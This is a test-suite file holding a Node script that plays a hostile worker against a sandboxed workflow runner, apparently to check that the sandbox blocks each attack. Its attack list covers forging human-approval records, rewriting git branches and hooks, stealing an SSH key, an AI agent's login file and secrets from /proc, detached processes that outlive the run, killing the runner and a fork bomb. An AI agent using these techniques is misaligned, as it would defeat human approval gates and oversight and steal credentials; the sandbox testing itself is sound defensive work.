// The hostile worker of the attacks suite, as the text of a Node script written into the test
// repository: `node attack.mjs <attack> -- <real worker argv>`. It tries its attack (each try
// prints `attack <name>: <what>: done|refused (<why>)`), then runs the real worker so the run
// goes on as usual. Some attacks leave a detached (setsid) child behind that acts later, when
// the runner has moved on: only a PID namespace that ends with the attempt stops those.
// Everything it targets is the test's own: the repository, run store, home folder, loopback
// port and runner it is told of; it never signals a process that is not the test's dwm.

/** The names of the attacks, in the order the suite runs them. */
export const ATTACKS = [
  "dwm-approve",
  "write-approval",
  "setsid-approval",
  "move-integration",
  "rewrite-main",
  "hooks-path",
  "skip-worktree",
  "proc-environ",
  "setsid-survivor",
  "write-journal",
  "other-evidence",
  "read-ssh",
  "read-agent-login",
  "loopback",
  "kill-runner",
  "fork-bomb",
] as const;
export type Attack = (typeof ATTACKS)[number];

/** Variables the attack reads (passed through the binding's pass_env). */
export const ATTACK_ENV = ["ATTACK_REPO", "ATTACK_BIN", "ATTACK_NONCE", "ATTACK_PORT", "ATTACK_FORK_MAX"];

export const ATTACK_SCRIPT = String.raw`import { execFileSync, spawn, spawnSync } from "node:child_process";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";

const name = process.argv[2];
const real = process.argv.slice(process.argv.indexOf("--") + 1);
const repo = process.env.ATTACK_REPO;
const run = process.env.DWM_RUN_ID;
const nonce = process.env.ATTACK_NONCE;
const store = path.join(repo, ".dwm", "runs", run);
const log = (m) => console.log("attack " + name + ": " + m);
const why = (e) => String(e.code ?? (e.stderr ? String(e.stderr).trim().split("\n").pop() : e.message.split("\n")[0]));
function attempt(what, fn) {
  try {
    const r = fn();
    log(what + ": done" + (r === undefined ? "" : " " + r));
  } catch (e) {
    log(what + ": refused (" + why(e) + ")");
  }
}
const git = (...a) => execFileSync("git", ["-C", repo, ...a], { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] }).trim();
// Without DWM's worker markers: an attacker strips what it can.
const bareEnv = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith("DWM_")));
/** A detached child (its own session) running this script's "later" part, for up to 40 s. */
function later() {
  attempt("detached child started", () => {
    const c = spawn(process.execPath, [process.argv[1], name + ":later", "attack-later-" + nonce], {
      detached: true,
      stdio: "ignore",
      env: process.env,
    });
    c.unref();
  });
}
const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
function until(cond, ms = 40000) {
  for (let t = 0; t < ms; t += 250) {
    try {
      if (cond()) return true;
    } catch {}
    sleep(250);
  }
  return false;
}
function forgeApproval() {
  const runDoc = JSON.parse(fs.readFileSync(path.join(store, "run.json"), "utf8"));
  const gate = runDoc.gates.find((g) => g.gate_id === "human-gate");
  const approval = {
    approver: { name: "Operator <op@example.com>", source: "git" },
    at: "2026-01-01T00:00:00.000Z",
    decision: "approve",
    gate_digest: gate.digest,
    gate_id: "human-gate",
    kind: "approval",
    packets: [],
    reason: "looks good",
    run_id: run,
    schema_version: "1",
  };
  fs.mkdirSync(path.join(store, "approvals", "human-gate"), { recursive: true });
  fs.writeFileSync(path.join(store, "approvals", "human-gate", "1.json"), JSON.stringify(approval) + "\n");
}
const gateOpen = () => fs.readFileSync(path.join(store, "journal.jsonl"), "utf8").includes('"gate.opened"');
function ancestors() {
  const out = [];
  let pid = process.ppid;
  for (let i = 0; i < 12 && pid > 1; i++) {
    const stat = fs.readFileSync("/proc/" + pid + "/stat", "utf8");
    const cmd = fs.readFileSync("/proc/" + pid + "/cmdline", "utf8").replaceAll("\0", " ");
    out.push({ pid, cmd });
    pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
  }
  return out;
}

const LATER = {
  "dwm-approve": () => {
    until(() => {
      const r = spawnSync(process.execPath, [process.env.ATTACK_BIN, "approve", run, "human-gate"], { cwd: repo, env: bareEnv });
      return r.status === 0;
    });
  },
  "setsid-approval": () => {
    if (until(gateOpen)) forgeApproval();
  },
  "move-integration": () => {
    // Once the runner merged a packet (a DWM commit at the tip), move the branch back past it.
    const ref = "refs/heads/dwm/" + run + "/integration";
    const tip = () => git("rev-parse", "--verify", "--quiet", ref);
    const start = (() => { try { return tip(); } catch { return ""; } })();
    if (until(() => tip() !== start && git("log", "-1", "--format=%an", ref) === "DWM")) git("update-ref", ref, git("rev-parse", ref + "~1"));
  },
  "other-evidence": () => {
    const dir = path.join(store, "attempts", "scan_src", "1");
    if (until(() => fs.existsSync(path.join(dir, "attempt.json")))) fs.appendFileSync(path.join(dir, "diff.patch"), nonce);
  },
  "setsid-survivor": () => sleep(300000),
};

// Reads a file of the home folder into the worker's output (audit/<out>) and its stdout.
const steal = (rel, out) => () => {
  const text = fs.readFileSync(path.join(process.env.HOME, rel), "utf8");
  fs.mkdirSync("audit", { recursive: true });
  fs.writeFileSync(path.join("audit", out), text);
  console.log(text);
};

const NOW = {
  "dwm-approve": () => {
    attempt("dwm approve now", () => execFileSync(process.execPath, [process.env.ATTACK_BIN, "approve", run, "human-gate"], { cwd: repo, env: bareEnv, stdio: "pipe" }));
    later();
  },
  "write-approval": () => attempt("write approvals/human-gate/1.json", forgeApproval),
  "setsid-approval": () => later(),
  "move-integration": () => {
    attempt("create the integration branch at main", () => git("update-ref", "refs/heads/dwm/" + run + "/integration", git("rev-parse", "main")));
    later();
  },
  "rewrite-main": () =>
    attempt("point main at a forged commit", () => {
      const forged = git("commit-tree", git("rev-parse", "main^{tree}"), "-m", "forged " + nonce);
      git("update-ref", "refs/heads/main", forged);
    }),
  "hooks-path": () => {
    attempt("git config core.hooksPath", () => git("config", "core.hooksPath", "/tmp/evil-hooks"));
    attempt("write .git/hooks/post-merge", () => fs.writeFileSync(path.join(repo, ".git", "hooks", "post-merge"), "#!/bin/sh\necho " + nonce + "\n", { mode: 0o755 }));
  },
  "skip-worktree": () => {
    attempt("skip-worktree on the repository's index", () => git("update-index", "--skip-worktree", "workflow.plan.json"));
    attempt("skip-worktree + rewritten script in the checkout", () => {
      execFileSync("git", ["update-index", "--skip-worktree", "scripts/inventory.mjs"], { stdio: "pipe" });
      fs.appendFileSync("scripts/inventory.mjs", "\n// " + nonce + "\n");
      return execFileSync("git", ["status", "--porcelain", "--", "scripts"], { encoding: "utf8" }) === "" ? "(git status hides it)" : "";
    });
  },
  "proc-environ": () =>
    attempt("read ATTACK_SECRET from other processes' environ", () => {
      let found = "";
      for (const d of fs.readdirSync("/proc").filter((x) => /^\d+$/.test(x))) {
        try {
          const m = /ATTACK_SECRET=([^\0]+)/.exec(fs.readFileSync("/proc/" + d + "/environ", "latin1"));
          if (m) found = m[1];
        } catch {}
      }
      if (found === "") throw Object.assign(new Error("not found"), { code: "NOT_FOUND" });
      fs.mkdirSync("audit", { recursive: true });
      fs.writeFileSync(path.join("audit", "stolen-" + found + ".txt"), found + "\n");
      console.log("stolen " + found);
    }),
  "setsid-survivor": () => later(),
  "write-journal": () =>
    attempt("append to journal.jsonl", () => fs.appendFileSync(path.join(store, "journal.jsonl"), '{"forged":"' + nonce + '"}\n')),
  "other-evidence": () => {
    attempt("write another packet's evidence", () => {
      fs.mkdirSync(path.join(store, "attempts", "scan_docs", "1"), { recursive: true });
      fs.writeFileSync(path.join(store, "attempts", "scan_docs", "1", "stdout"), nonce);
    });
    later();
  },
  "read-ssh": () => attempt("read ~/.ssh/id_ed25519", steal(".ssh/id_ed25519", "key.txt")),
  "read-agent-login": () => attempt("read ~/.codex/auth.json", steal(".codex/auth.json", "login.txt")),
  "loopback": () => {
    const r = spawnSync(process.execPath, ["-e", "const s=require('net').connect(" + Number(process.env.ATTACK_PORT) + ",'127.0.0.1',()=>{s.end('" + nonce + "');console.log('connected')});s.on('error',e=>{console.log(e.code);process.exit(1)});s.on('close',()=>process.exit(0))"], { encoding: "utf8", timeout: 10000 });
    log("connect to 127.0.0.1:" + process.env.ATTACK_PORT + ": " + (r.status === 0 ? "done" : "refused (" + r.stdout.trim() + ")"));
  },
  "kill-runner": () => {
    const targets = ancestors().filter((a) => a.cmd.includes(process.env.ATTACK_BIN) || a.cmd.includes("process-host"));
    if (targets.length === 0) log("find the runner among my ancestors: refused (not visible)");
    for (const t of targets) attempt("kill -9 " + t.pid, () => process.kill(t.pid, "SIGKILL"));
  },
  "fork-bomb": async () => {
    const max = Number(process.env.ATTACK_FORK_MAX);
    const kids = [];
    let failed = 0;
    for (let i = 0; i < max && failed < 50; i++) {
      const c = spawn("sleep", ["30"], { stdio: "ignore" });
      const ok = await new Promise((r) => {
        c.once("spawn", () => r(true));
        c.once("error", () => r(false));
      });
      if (ok) kids.push(c);
      else failed++;
    }
    log("started " + kids.length + " processes (" + failed + " failed)");
    // Killed and reaped, so the real worker can start again.
    await Promise.all(kids.map((k) => new Promise((r) => { k.once("exit", r); k.kill("SIGKILL"); })));
  },
};

if (name.endsWith(":later")) {
  LATER[name.slice(0, -6)]?.();
  process.exit(0);
}
await NOW[name]();
const r = spawnSync(real[0], real.slice(1), { stdio: "inherit" });
process.exit(r.status ?? 1);
`;
